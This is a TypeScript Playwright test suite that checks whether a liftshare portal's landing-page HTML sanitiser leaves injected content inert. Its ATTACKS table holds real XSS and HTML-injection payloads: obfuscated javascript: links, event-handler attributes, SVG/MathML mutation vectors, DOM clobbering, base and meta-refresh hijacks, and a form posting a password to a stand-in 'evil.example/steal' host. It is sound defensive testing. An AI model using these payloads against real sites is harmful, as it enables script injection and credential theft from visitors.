import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import type { OtherApi } from './support/other-api.ts';
import { expect, test } from './support/other-server-test.ts';
import { test as testWithStore } from './support/test.ts';
import { waylift } from './support/waylift.ts';

const EVIL = 'https://evil.example';
const RUN = 'window.hasRun=true';

/** By name: what somebody puts into landing HTML, each with words that must still be readable beside it. */
const ATTACKS = {
  'a script': `<script>${RUN}</script><script src="${EVIL}/x.js"></script><scr<script>ipt>${RUN}</scr</script>ipt>`,
  'a script in a module or a nonce': `<script type="module">${RUN}</script><script nonce="">${RUN}</script>`,
  'event attributes': `<img src="/mark.svg" onload="${RUN}"><img src=x onerror="${RUN}"><p onpointerover="${RUN}" onclick="${RUN}" onanimationstart="${RUN}">hover</p><div tabindex="0" autofocus onfocus="${RUN}">focus</div><details open ontoggle="${RUN}"><summary>more</summary></details>`,
  'a style that covers the page': `<div style="position:fixed;inset:0;z-index:2147483647;background:red">cover</div><p class="dialog skip hero plate" id="content">borrowed</p>`,
  'a style sheet': `<style>*{display:none!important}body::before{content:"";position:fixed;inset:0;background:url(${EVIL}/css)}</style><link rel="stylesheet" href="${EVIL}/x.css">`,
  frames: `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>parent.hasRun=true</script>"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><frameset><frame src="${EVIL}/f"></frameset>`,
  forms: `<form action="${EVIL}/steal" method="post"><label>Password <input type="password" name="password" autofocus></label><button formaction="javascript:${RUN}">Sign in</button></form><select><option>x</select><textarea>y</textarea>`,
  'javascript: links': `<a href="javascript:${RUN}">one</a><a href=" &#14;jAvAsCrIpT&colon;${RUN}">two</a><a href="java&Tab;script:${RUN}">three</a><area href="javascript:${RUN}">`,
  'data: links': `<a href="data:text/html,<script>opener.hasRun=true</script>">data</a><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  'srcset and picture': `<img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x" alt="set"><picture><source srcset="${EVIL}/3.png"><img src="javascript:${RUN}" alt="picture"></picture><video src="${EVIL}/v" poster="${EVIL}/p" autoplay onplay="${RUN}"></video>`,
  svg: `<svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>svg</text></a><animate onbegin="${RUN}" attributeName="x" dur="1s"/><foreignObject><img src="x" onerror="${RUN}"></foreignObject></svg><math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><meta http-equiv="Content-Security-Policy" content="script-src *">`,
  base: `<base href="${EVIL}/"><a href="relative">relative</a>`,
  'an end of the page': `</div></section></main></body></html><h1>Another page</h1><dialog open>Your session has ended</dialog><template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'names that stand in for others': `<img name="currentScript"><img id="location" name="body"><form id="documentElement"></form><a id="trustedTypes" href="${EVIL}">x</a>`,
};
/** What no page has room for: none of it may hide the rest, nor be cut off itself. */
const TOO_MUCH = `<p>${'wide'.repeat(60)}</p><table><tr>${`<td>${'cell'.repeat(25)}</td>`.repeat(3)}</tr></table>
  <pre>${'line'.repeat(60)}</pre><img src="/uploaded-images/CommunityImages/0b0e3a52-9a6c-4b7e-8f43-6a1f0f6f2c11" width="9999" height="9999" alt="gone">`;
const PICTURE = 'https://pictures.example/car.png';
const WORDS = 'We share our road.';
const wrapped = (attack: string) => `<h2>Kept</h2><p>${WORDS}</p>${attack}`;

/** Has another server send a community with this landing HTML. */
function answerLandingHtml(api: OtherApi, html: string): void {
  const record = { publicId: 'c1', slug: 'attacked', name: 'Attacked', active: true, childCommunities: [] };
  api.answer('GET /v2/liftshare/community/directory-slug/attacked', { status: 200, body: { currentCommunity: record } });
  const options = { LandingCustomHTML: html };
  api.answer('GET /v3/liftshare/community/options/slug/attacked', { status: 200, body: { options } });
}

/** Notes what the page asks of other origins from now on, and lets none of it come. */
async function strangersOf(page: Page, own: string): Promise<string[]> {
  const strangers: string[] = [];
  await page.route(
    (address) => address.origin !== own,
    (route) => {
      strangers.push(route.request().url());
      return route.abort();
    },
  );
  page.on('dialog', (dialog) => void dialog.dismiss());
  page.on('framenavigated', (frame) => void (frame.url().startsWith(own) || strangers.push(frame.url())));
  return strangers;
}

/** Looks at a landing page as a visitor does: its words are there, the page is still ours, and nothing has happened. */
async function expectInert(page: Page, url: string, strangers: readonly string[]): Promise<void> {
  await page.goto(url);
  const region = page.locator('.prose--landing');
  await expect(region.getByText(WORDS)).toBeVisible();

  // Somebody points at everything, clicks on everything but the links to pages, and tabs through everything.
  await region.evaluate((root) => {
    for (const element of root.querySelectorAll<HTMLElement>('*')) {
      const isPageLink = element instanceof HTMLAnchorElement && /^(?:https?|mailto|tel):$/.test(element.protocol);
      for (const type of ['pointerover', 'animationstart', 'load', 'error', 'toggle']) element.dispatchEvent(new Event(type));
      if (!isPageLink) element.click();
      element.focus();
    }
  });
  // Whatever an image or a style could have begun is over once they are, and the page has nothing left to do.
  await page.evaluate(async () => {
    await Promise.allSettled([...document.images].map((image) => image.decode()));
    await new Promise((done) => requestIdleCallback(done));
  });

  expect(await page.evaluate(() => 'hasRun' in window), 'no script has run').toBe(false);
  expect(strangers, 'nothing is fetched from elsewhere').toEqual([]);
  expect(page.url()).toBe(url);
  expect(page.frames(), 'no frame').toHaveLength(1);
  expect(await page.evaluate(() => document.baseURI)).toBe(url);
  await expect(
    page.locator(
      'main form:not(.whence), main input:not(#whence), main iframe, main object, main svg a, main video, main base, main meta, main style',
    ),
  ).toHaveCount(0);
  await expect(region.locator('[style], [class], [id], [name], [srcset], [tabindex], [autofocus]')).toHaveCount(0);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Two journeys, one road.');
  await expect(page.getByRole('dialog')).toHaveCount(0);
  for (const link of await region.getByRole('link').all()) expect(await link.getAttribute('rel')).toBe('noopener noreferrer');

  // Nothing lies over the page, and its own controls lead where they should.
  const joinLink = page.getByRole('link', { name: 'Join us' }).first();
  await joinLink.click({ trial: true });
  expect(await joinLink.evaluate((link) => link instanceof HTMLAnchorElement && link.href)).toBe(`${url}/join`);
}

test('anything in landing HTML that another server sends is inert', async ({ page, api, portal }) => {
  const strangers = await strangersOf(page, portal.url);
  for (const [name, attack] of Object.entries(ATTACKS)) {
    await test.step(name, async () => {
      answerLandingHtml(api, wrapped(attack));
      await expectInert(page, `${portal.url}/attacked`, strangers);
    });
  }
});

testWithStore('everything at once, stored by the operator, is inert, and named to who stored it', async ({ page, server }) => {
  const file = join(server.dataDir, 'landing.html');
  await writeFile(file, wrapped(Object.values(ATTACKS).join('\n')));
  expect(await waylift(server, 'community', 'set', 'saltmarsh-college', '--landing-html', file)).toContain('script');
  await expectInert(page, `${server.url}/saltmarsh-college`, await strangersOf(page, server.url));
  await page.getByRole('link', { name: 'Join us' }).first().click();
  await expect(page).toHaveURL(/\/join$/);
});

test('landing HTML keeps what shapes its text, and a relative link stays on the portal, whatever base was sent', async ({
  page,
  api,
  portal,
}) => {
  answerLandingHtml(api, wrapped(ATTACKS.base));
  await page.goto('/attacked');
  const region = page.locator('.prose--landing');
  await expect(region.getByRole('heading', { level: 2, name: 'Kept' })).toBeVisible();
  await expect(region.getByText(WORDS)).toBeVisible();
  const link = page.getByRole('link', { name: 'relative' });
  expect(await link.evaluate((element) => (element instanceof HTMLAnchorElement ? element.origin : ''))).toBe(portal.url);
});

test('words, cells and pictures of any size fit the page, and leave the rest in reach', async ({ page, api }) => {
  answerLandingHtml(api, wrapped(TOO_MUCH));
  await page.setViewportSize({ width: 360, height: 780 });
  await page.goto('/attacked');
  const region = page.locator('.prose--landing');
  const cutOff = await region.evaluate((element) =>
    [...element.querySelectorAll('*')].filter((each) => each.getBoundingClientRect().right > innerWidth).map((each) => each.tagName),
  );
  expect(cutOff).toEqual([]);
  expect(await region.getByRole('img').evaluate((image) => image.clientHeight)).toBeLessThan(780);
});

test('a picture of another site is shown on a landing page; pages with passwords and tokens load none', async ({ page, api }) => {
  answerLandingHtml(api, wrapped(`<img src="${PICTURE}" alt="A car">`));
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
  const asked: string[] = [];
  await page.route(PICTURE, (route) => {
    asked.push(JSON.stringify(route.request().headers()));
    return route.fulfill({ body: png, contentType: 'image/png' });
  });
  await page.goto('/attacked?cd=travel.example');
  const picture = page.getByRole('img', { name: 'A car' });
  await picture.scrollIntoViewIfNeeded();
  await expect.poll(() => picture.evaluate((image) => image instanceof HTMLImageElement && image.naturalWidth)).toBe(1);
  expect(asked.join()).not.toContain('referer');
  for (const path of ['/attacked/login', '/login', '/attacked/verify-email/abc']) {
    const policy = (await page.goto(path))?.headers()['content-security-policy'];
    expect(policy).toMatch(/img-src 'self' data:(?: http:\S+)?;/);
  }
});
